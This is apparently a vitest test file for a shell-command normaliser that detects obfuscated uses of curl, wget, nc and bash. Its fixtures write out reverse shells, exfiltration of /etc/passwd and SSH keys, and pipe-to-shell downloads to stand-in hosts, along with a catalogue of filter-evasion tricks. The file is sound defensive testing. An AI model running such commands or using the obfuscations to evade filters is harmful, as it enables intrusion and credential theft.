import { describe, expect, it } from 'vitest';
import { decodeEscapes, foldUnicode, MAX_SHELL_INPUT, normalizeShell, shellCommandNames } from './shell.normalize.ts';

const names = shellCommandNames;

describe('shell command normaliser: obfuscations recover the real command', () => {
  const recovered: [string, string][] = [
    // quotes and backslashes
    ["c''url -s http://198.51.100.7/x", 'curl'],
    ['w""get -q http://x', 'wget'],
    ['\\c\\u\\r\\l http://x', 'curl'],
    ["n'c' -e /bin/sh 203.0.113.9 4444", 'nc'],
    // ANSI-C quoting: hex, octal, unicode escapes
    ["$'\\x63\\x75\\x72\\x6c' http://x", 'curl'],
    ["$'\\143\\165\\162\\154' http://x", 'curl'],
    ["$'\\167'get http://x", 'wget'],
    ["$'\\u0062'ash -i", 'bash'],
    // backticks and command substitution
    ['`echo curl` http://x', 'curl'],
    ['$(echo wget) http://x', 'wget'],
    ['c$(echo u)rl http://x', 'curl'],
    ['`printf "\\143url"` http://x', 'curl'],
    ['$(printf "\\x6e\\x63") -e /bin/sh h 1', 'nc'],
    ['`echo b``echo ash` -i', 'bash'],
    // a substitution that decodes its word: base64 and hex
    ['`echo Y3VybA== | base64 -d` -s http://x', 'curl'],
    ['$(echo YmFzaA== | base64 --decode) -i', 'bash'],
    ['$(printf 6e63 | xxd -r -p) -e /bin/sh h 1', 'nc'],
    // brace expansion
    ['{curl,-s,http://x}', 'curl'],
    ['{wget,-qO-,http://x}|{bash,}', 'bash'],
    // $IFS
    ['curl${IFS}-s${IFS}http://x', 'curl'],
    ['cat$IFS/etc/passwd|nc$IFS-q0$IFS203.0.113.9$IFS80', 'nc'],
    ['wget$IFS$9http://x', 'wget'],
    // full-width letters, look-alikes, invisible characters
    ['ｃｕｒｌ http://x', 'curl'],
    ['ｗｇｅｔ http://x', 'wget'],
    ['\u0441url http://x', 'curl'], // Cyrillic es
    ['b\u0430sh -i', 'bash'], // Cyrillic a
    ['𝐜𝐮𝐫𝐥 http://x', 'curl'], // mathematical bold
    ['wg\u200bet http://x', 'wget'], // zero-width space
    // variables assembling a word
    ['a=cu;b=rl;$a$b http://x', 'curl'],
    ['a="cu" b=rl; ${a}${b} http://x', 'curl'],
    ['export X=wget; $X http://x', 'wget'],
    // shells, eval, wrappers, paths
    ['bash -c "wget -qO- http://x | sh"', 'wget'],
    ["sh -lc 'n\\c -e /bin/sh h 1'", 'nc'],
    ['eval "cu""rl http://x"', 'curl'],
    ['sudo -u root env A=1 nohup timeout 5 curl http://x', 'curl'],
    ['find / -name id_rsa -exec curl -F f=@{} http://x \\;', 'curl'],
    ['echo aGk= | base64 -d | /bin/bash', 'bash'],
    ['CURL.EXE http://x', 'curl'],
    ['x=$(curl -s http://x); echo $x', 'curl'],
    ['cat <(curl -s http://x)', 'curl'],
    ['if true; then wget http://x; fi', 'wget'],
  ];
  for (const [line, cmd] of recovered) {
    it(`finds ${cmd} in ${JSON.stringify(line)}`, () => {
      expect(names(line)).toContain(cmd);
    });
  }

  it('takes an argv array, following sh -c scripts and folding each word', () => {
    expect(names(['bash', '-c', 'c\\url http://x'])).toEqual(['bash', 'curl']);
    expect(names(['ｃｕｒｌ', 'http://x'])).toEqual(['curl']);
    expect(names(['/usr/bin/env', 'wget', 'http://x'])).toEqual(['env', 'wget']);
  });

  it('exposes the normalised words of every command, inner ones too', () => {
    expect(normalizeShell('c""url${IFS}-s http://x | $(echo b)ash').argvs).toEqual([['curl', '-s', 'http://x'], ['echo', 'b'], ['bash']]);
  });
});

describe('shell command normaliser: benign commands unchanged', () => {
  const benign: [string, string[], string[][]][] = [
    ['git status && npm test', ['git', 'npm'], [['git', 'status'], ['npm', 'test']]],
    ['ls -la > out.txt 2>&1', ['ls'], [['ls', '-la']]],
    ['grep -r "wget" src/ | wc -l', ['grep', 'wc'], [['grep', '-r', 'wget', 'src/'], ['wc', '-l']]],
    ['echo "curl is a tool"', ['echo'], [['echo', 'curl is a tool']]],
    ["kubectl get pods -n prod -o 'jsonpath={.items[*].metadata.name}'", ['kubectl'], [['kubectl', 'get', 'pods', '-n', 'prod', '-o', 'jsonpath={.items[*].metadata.name}']]],
    ['python3 -m pytest -k "not slow"', ['python3'], [['python3', '-m', 'pytest', '-k', 'not slow']]],
    ['# curl http://x\nmake build', ['make'], [['make', 'build']]],
    ['docker run --rm -e A=1 node:24 node -v', ['docker'], [['docker', 'run', '--rm', '-e', 'A=1', 'node:24', 'node', '-v']]],
    ["awk '{print $1}' file.txt", ['awk'], [['awk', '{print $1}', 'file.txt']]],
    ['echo $(( 2 + 3 ))', ['echo'], [['echo']]],
  ];
  for (const [line, cmds, argvs] of benign) {
    it(JSON.stringify(line), () => {
      const r = normalizeShell(line);
      expect(r.commands).toEqual(cmds);
      expect(r.argvs).toEqual(argvs);
      expect(r.truncated).toBe(false);
    });
  }

  it('never reports a quoted word as a command when it is only an argument', () => {
    expect(names("grep 'curl' log")).toEqual(['grep']);
    expect(names('echo {a,b}')).toEqual(['echo']);
    expect(names("'{curl,x}'")).toEqual(['{curl,x}']);
  });
});

describe('shell command normaliser: bounds', () => {
  it('cuts input longer than MAX_SHELL_INPUT and says so', () => {
    const r = normalizeShell(`ls ${'a'.repeat(MAX_SHELL_INPUT)} ; curl x`);
    expect(r.truncated).toBe(true);
    expect(r.commands).toEqual(['ls']);
  });

  it('skips substitutions nested past its depth without losing the commands after them', () => {
    const r = normalizeShell(`${'$(echo '.repeat(12)}x${')'.repeat(12)}; curl y`);
    expect(r.commands).toEqual(['echo', 'curl']);
    expect(r.argvs[r.argvs.length - 1]).toEqual(['curl', 'y']);
  });

  it('keeps output proportional to input on doubling variables, nested braces and deep substitutions', () => {
    const outputSize = (line: string) => normalizeShell(line).argvs.flat().reduce((n, w) => n + w.length, 0);
    const doubling = (k: number) => `a=x;${'a=$a$a;'.repeat(k)}echo $a`;
    const braces = (k: number) => `echo ${'{a,b}'.repeat(k)}`;
    const nested = (k: number) => `${'$(echo '.repeat(k)}curl${')'.repeat(k)}`;
    const backticks = (k: number) => `${'`echo '.repeat(k)}x${'`'.repeat(k)}`;
    for (const make of [doubling, braces, nested, backticks]) {
      const small = make(200).length;
      const big = make(400).length;
      // Output of twice the input is at most about twice as large (bounded constants, no blow-up).
      expect(outputSize(make(400))).toBeLessThanOrEqual(2 * Math.max(outputSize(make(200)), small) + big);
      expect(outputSize(make(2000))).toBeLessThanOrEqual(70_000);
    }
  });
});

describe('escape and Unicode helpers', () => {
  it('decodes hex, octal, unicode and simple escapes', () => {
    expect(decodeEscapes('\\x63\\165r\\u006c\\n\\t\\\\')).toBe('curl\n\t\\');
  });
  it('folds full-width letters and Latin look-alikes but never changes ASCII', () => {
    expect(foldUnicode('ｃｕｒｌ')).toBe('curl');
    expect(foldUnicode('\u0441url')).toBe('curl');
    expect(foldUnicode('cat a|nc h 1')).toBe('cat a|nc h 1');
    // Accented letters fold too: the output is for matching, not for running.
    expect(foldUnicode('café')).toBe('cafe');
  });
});
